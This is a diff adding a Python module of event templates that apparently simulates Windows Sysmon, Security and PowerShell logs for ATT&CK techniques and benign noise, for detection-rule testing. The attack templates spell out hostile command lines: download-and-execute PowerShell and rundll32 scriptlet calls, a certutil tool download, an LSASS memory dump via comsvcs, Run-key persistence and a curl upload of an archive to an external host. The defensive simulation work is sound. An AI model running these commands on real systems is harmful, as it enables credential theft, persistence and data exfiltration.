@@ -0,0 +1,240 @@
+# templates.py - Event templates for simulated ATT&CK techniques and benign activity
+#
+# Templates use the canonical field names of the detection rules (Sysmon /
+# Windows Security / PowerShell). String values may contain {{placeholders}}
+# that the generator fills per execution (see PLACEHOLDERS).
+from typing import Dict, Tuple
+
+SYSMON = "Microsoft-Windows-Sysmon/Operational"
+SECURITY = "Security"
+POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
+
+# Every placeholder a template may use; the generator provides all of them
+PLACEHOLDERS = ("host", "domain", "user", "dc", "ip", "peer_ip", "ext_ip", "pid", "ppid", "logon_id", "n")
+
+USER = "{{domain}}\\{{user}}"
+
+
+def process(image: str, command_line: str, parent_image: str = "C:\\Windows\\explorer.exe",
+            parent_command_line: str = "C:\\Windows\\Explorer.EXE", user: str = USER,
+            integrity: str = "Medium") -> dict:
+    """Sysmon EventID 1 (process creation)."""
+    return {
+        "EventID": 1, "Channel": SYSMON, "Computer": "{{host}}",
+        "Image": image, "CommandLine": command_line, "OriginalFileName": image.rsplit("\\", 1)[-1].upper(),
+        "ParentImage": parent_image, "ParentCommandLine": parent_command_line,
+        "ProcessId": "{{pid}}", "ParentProcessId": "{{ppid}}", "User": user, "IntegrityLevel": integrity,
+        "CurrentDirectory": "C:\\Users\\{{user}}\\",
+    }
+
+
+def network(image: str, destination_ip: str, destination_port: int, protocol: str = "tcp") -> dict:
+    """Sysmon EventID 3 (network connection)."""
+    return {
+        "EventID": 3, "Channel": SYSMON, "Computer": "{{host}}", "Image": image, "ProcessId": "{{pid}}",
+        "User": USER, "Protocol": protocol, "Initiated": "true", "SourceIp": "{{ip}}",
+        "DestinationIp": destination_ip, "DestinationPort": destination_port,
+    }
+
+
+def process_access(source_image: str, target_image: str, granted_access: str, call_trace: str) -> dict:
+    """Sysmon EventID 10 (process access)."""
+    return {
+        "EventID": 10, "Channel": SYSMON, "Computer": "{{host}}", "SourceImage": source_image,
+        "SourceProcessId": "{{pid}}", "TargetImage": target_image, "TargetProcessId": "{{ppid}}",
+        "GrantedAccess": granted_access, "CallTrace": call_trace,
+    }
+
+
+def file_create(image: str, target_filename: str) -> dict:
+    """Sysmon EventID 11 (file created)."""
+    return {"EventID": 11, "Channel": SYSMON, "Computer": "{{host}}", "Image": image, "ProcessId": "{{pid}}",
+            "TargetFilename": target_filename}
+
+
+def registry_set(image: str, target_object: str, details: str) -> dict:
+    """Sysmon EventID 13 (registry value set)."""
+    return {"EventID": 13, "Channel": SYSMON, "Computer": "{{host}}", "EventType": "SetValue", "Image": image,
+            "ProcessId": "{{pid}}", "TargetObject": target_object, "Details": details}
+
+
+def logon(logon_type: int, ip: str = "{{peer_ip}}", user: str = "{{user}}", domain: str = "{{domain}}",
+          process_name: str = "C:\\Windows\\System32\\svchost.exe") -> dict:
+    """Security 4624 (successful logon)."""
+    return {
+        "EventID": 4624, "Channel": SECURITY, "Computer": "{{host}}", "TargetUserName": user,
+        "TargetDomainName": domain, "TargetLogonId": "{{logon_id}}", "LogonType": logon_type,
+        "LogonProcessName": "User32" if logon_type in (2, 10) else "NtLmSsp",
+        "AuthenticationPackageName": "Negotiate", "IpAddress": ip, "IpPort": "0", "ProcessName": process_name,
+    }
+
+
+def registry_audit(object_name: str, value_name: str, new_value: str) -> dict:
+    """Security 4657 (registry value modified)."""
+    return {
+        "EventID": 4657, "Channel": SECURITY, "Computer": "{{host}}", "SubjectUserName": "{{user}}",
+        "SubjectDomainName": "{{domain}}", "SubjectLogonId": "{{logon_id}}", "ObjectName": object_name,
+        "ObjectValueName": value_name, "OperationType": "%%1904", "NewValue": new_value,
+        "ProcessName": "C:\\Windows\\System32\\reg.exe",
+    }
+
+
+def script_block(text: str) -> dict:
+    """PowerShell 4104 (script block logging)."""
+    return {"EventID": 4104, "Channel": POWERSHELL, "Computer": "{{host}}", "User": USER,
+            "MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text, "ScriptBlockId": "{{logon_id}}"}
+
+
+def email(subject: str, body: str, attachment_name: str) -> dict:
+    """Mail gateway record (logsource product: email)."""
+    return {"product": "email", "sender": "billing@{{ext_ip}}.example", "recipient": "{{user}}@corp.example",
+            "subject": subject, "body": body, "attachment_name": attachment_name,
+            "attachment_extension": "." + attachment_name.rsplit(".", 1)[-1]}
+
+
+POWERSHELL_EXE = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+CMD_EXE = "C:\\Windows\\System32\\cmd.exe"
+RUNDLL32_EXE = "C:\\Windows\\System32\\rundll32.exe"
+WINWORD_EXE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
+ENCODED = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
+INJECTION_TRACE = ("C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
+                   "C:\\Windows\\System32\\kernel32.dll!VirtualAllocEx+0x1a|"
+                   "C:\\Windows\\System32\\kernel32.dll!WriteProcessMemory+0x2f|UNKNOWN(00000000017A2F3B)")
+
+_encoded_powershell = process(POWERSHELL_EXE, f"powershell.exe -nop -w hidden -enc {ENCODED}",
+                              WINWORD_EXE, '"WINWORD.EXE" /n "C:\\Users\\{{user}}\\Downloads\\invoice_{{n}}.doc"')
+_injection = [
+    process_access(RUNDLL32_EXE, "C:\\Windows\\System32\\svchost.exe", "0x1F0FFF", INJECTION_TRACE),
+    {"EventID": 8, "Channel": SYSMON, "Computer": "{{host}}", "SourceImage": RUNDLL32_EXE,
+     "SourceProcessId": "{{pid}}", "TargetImage": "C:\\Windows\\System32\\svchost.exe",
+     "TargetProcessId": "{{ppid}}", "StartFunction": "-", "StartModule": "-"},
+]
+
+# technique -> {"name", "tactic", "events": [template, ...]}; one execution emits the
+# events back to back, in order, sharing one placeholder context
+TECHNIQUES: Dict[str, dict] = {
+    "T1566.001": {"name": "Spearphishing Attachment", "tactic": "Initial Access", "events": [
+        email("Urgent: Invoice {{n}} overdue", "Please review the invoice at http://{{ext_ip}}/invoice",
+              "Invoice_{{n}}.exe"),
+        file_create("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
+                    "C:\\Users\\{{user}}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Invoice_{{n}}.exe"),
+    ]},
+    "T1078.004": {"name": "Valid Accounts: Cloud Accounts", "tactic": "Initial Access", "events": [
+        logon(3, ip="{{ext_ip}}", domain="AzureAD"),
+    ]},
+    "T1059.001": {"name": "PowerShell", "tactic": "Execution", "events": [
+        _encoded_powershell,
+        script_block("IEX (New-Object Net.WebClient).DownloadString('http://{{ext_ip}}/stage.ps1')"),
+        script_block("$s=[System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String($p)); "
+                     "Invoke-Expression $s"),
+    ]},
+    "T1086": {"name": "PowerShell (legacy id)", "tactic": "Execution", "events": [_encoded_powershell]},
+    "T1059.003": {"name": "Windows Command Shell", "tactic": "Execution", "events": [
+        process(CMD_EXE, 'cmd.exe /c "whoami /all & ipconfig /all & systeminfo"', WINWORD_EXE,
+                '"WINWORD.EXE" /n'),
+    ]},
+    "T1218.011": {"name": "Rundll32", "tactic": "Defense Evasion", "events": [
+        process(RUNDLL32_EXE, 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";'
+                              'document.write();GetObject("script:http://{{ext_ip}}/p.sct")', CMD_EXE, "cmd.exe"),
+    ]},
+    "T1547.001": {"name": "Registry Run Keys", "tactic": "Persistence", "events": [
+        process("C:\\Windows\\System32\\reg.exe",
+                'reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater '
+                '/t REG_SZ /d "C:\\Users\\{{user}}\\AppData\\Roaming\\updater.exe" /f', CMD_EXE, "cmd.exe"),
+        registry_audit("\\REGISTRY\\USER\\S-1-5-21-{{logon_id}}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+                       "Updater", "C:\\Users\\{{user}}\\AppData\\Roaming\\updater.exe"),
+        registry_set("C:\\Windows\\System32\\reg.exe",
+                     "HKU\\S-1-5-21-{{logon_id}}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
+                     "C:\\Users\\{{user}}\\AppData\\Roaming\\updater.exe"),
+    ]},
+    "T1055": {"name": "Process Injection", "tactic": "Defense Evasion", "events": _injection},
+    "T1055.002": {"name": "Process Injection: Portable Executable", "tactic": "Defense Evasion",
+                  "events": _injection},
+    "T1003.001": {"name": "LSASS Memory", "tactic": "Credential Access", "events": [
+        process(RUNDLL32_EXE, "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {{ppid}} "
+                              "C:\\Windows\\Temp\\lsass.dmp full", CMD_EXE, "cmd.exe", integrity="High"),
+        process_access(RUNDLL32_EXE, "C:\\Windows\\System32\\lsass.exe", "0x1FFFFF",
+                       "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\dbgcore.DLL+6d4b"),
+        file_create(RUNDLL32_EXE, "C:\\Windows\\Temp\\lsass.dmp"),
+    ]},
+    "T1083": {"name": "File and Directory Discovery", "tactic": "Discovery", "events": [
+        process(CMD_EXE, "cmd.exe /c dir /s /b C:\\Users\\*.docx", CMD_EXE, "cmd.exe"),
+    ]},
+    "T1087.002": {"name": "Domain Account Discovery", "tactic": "Discovery", "events": [
+        process("C:\\Windows\\System32\\net.exe", 'net group "Domain Admins" /domain', CMD_EXE, "cmd.exe"),
+        process("C:\\Windows\\System32\\net.exe", "net user /domain", CMD_EXE, "cmd.exe"),
+    ]},
+    "T1135": {"name": "Network Share Discovery", "tactic": "Discovery", "events": [
+        process("C:\\Windows\\System32\\net.exe", "net view \\\\{{dc}} /all", CMD_EXE, "cmd.exe"),
+        network("C:\\Windows\\System32\\net.exe", "{{peer_ip}}", 445),
+    ]},
+    "T1021.001": {"name": "Remote Desktop Protocol", "tactic": "Lateral Movement", "events": [
+        process("C:\\Windows\\System32\\mstsc.exe", "mstsc.exe /v:{{peer_ip}}", CMD_EXE, "cmd.exe"),
+        network("C:\\Windows\\System32\\mstsc.exe", "{{peer_ip}}", 3389),
+        # Repeated interactive logons: enough to trip the logon-burst correlation
+    ] + [logon(10, process_name="C:\\Windows\\System32\\winlogon.exe") for _ in range(6)]},
+    "T1560.001": {"name": "Archive via Utility", "tactic": "Collection", "events": [
+        process("C:\\Program Files\\7-Zip\\7z.exe",
+                "7z.exe a -tzip -pS3cr3t C:\\Windows\\Temp\\out.zip C:\\Users\\{{user}}\\Documents", CMD_EXE,
+                "cmd.exe"),
+        file_create("C:\\Program Files\\7-Zip\\7z.exe", "C:\\Windows\\Temp\\out.zip"),
+    ]},
+    "T1105": {"name": "Ingress Tool Transfer", "tactic": "Command and Control", "events": [
+        process("C:\\Windows\\System32\\certutil.exe",
+                "certutil.exe -urlcache -split -f http://{{ext_ip}}/tool.exe C:\\Windows\\Temp\\tool.exe",
+                CMD_EXE, "cmd.exe"),
+        network("C:\\Windows\\System32\\certutil.exe", "{{ext_ip}}", 80),
+        file_create("C:\\Windows\\System32\\certutil.exe", "C:\\Windows\\Temp\\tool.exe"),
+    ]},
+    "T1090.003": {"name": "Proxy: Multi-hop Proxy", "tactic": "Command and Control", "events": [
+        process("C:\\Users\\{{user}}\\AppData\\Roaming\\tor\\tor.exe", "tor.exe --quiet", CMD_EXE, "cmd.exe"),
+        network("C:\\Users\\{{user}}\\AppData\\Roaming\\tor\\tor.exe", "{{ext_ip}}", 9001),
+    ]},
+    "T1041": {"name": "Exfiltration Over C2 Channel", "tactic": "Exfiltration", "events": [
+        process("C:\\Windows\\System32\\curl.exe",
+                "curl.exe -X POST -F file=@C:\\Windows\\Temp\\out.zip https://{{ext_ip}}/upload", CMD_EXE,
+                "cmd.exe"),
+        network("C:\\Windows\\System32\\curl.exe", "{{ext_ip}}", 443),
+    ]},
+}
+
+# name -> (weight, template): everyday workstation activity. Weights are relative.
+NOISE: Dict[str, Tuple[float, dict]] = {
+    "chrome_renderer": (20, process(
+        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+        '"chrome.exe" --type=renderer --lang=en-US --renderer-client-id={{n}}',
+        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"chrome.exe"')),
+    "svchost": (12, process(
+        "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
+        "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe",
+        user="NT AUTHORITY\\SYSTEM", integrity="System")),
+    "conhost": (6, process(
+        "C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
+        CMD_EXE, "cmd.exe")),
+    "powershell_admin": (4, process(
+        POWERSHELL_EXE, "powershell.exe -NoProfile -Command Get-Service",
+        "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs")),
+    "rundll32_control": (3, process(RUNDLL32_EXE, "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL")),
+    "chrome_https": (20, network("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "{{ext_ip}}", 443)),
+    "ldap": (8, network("C:\\Windows\\System32\\svchost.exe", "{{dc}}", 389)),
+    "network_logon": (10, logon(3, process_name="-")),
+    "interactive_logon": (3, logon(2, ip="127.0.0.1", process_name="C:\\Windows\\System32\\winlogon.exe")),
+    # Legitimate admin RDP: the benign side of the RDP logon rule
+    "rdp_logon": (0.1, logon(10, process_name="C:\\Windows\\System32\\winlogon.exe")),
+    "powershell_cleanup": (4, script_block("Get-ChildItem -Path $env:TEMP -Filter *.log | Remove-Item -Force")),
+    "powershell_ad_lookup": (2, script_block("Import-Module ActiveDirectory; Get-ADUser -Identity {{user}}")),
+    "defender_update": (3, registry_audit(
+        "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates",
+        "SignatureVersion", "1.401.{{n}}.0")),
+    "chrome_cache": (6, file_create(
+        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+        "C:\\Users\\{{user}}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\f_{{n}}")),
+    "recent_docs": (4, registry_set(
+        "C:\\Windows\\explorer.exe",
+        "HKU\\S-1-5-21-{{logon_id}}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs",
+        "Binary Data")),
+    "lsass_query": (2, process_access(
+        "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\lsass.exe", "0x1000",
+        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2c13e")),
+    "email": (1, email("Team lunch on Friday", "See you at noon", "menu.pdf")),
+}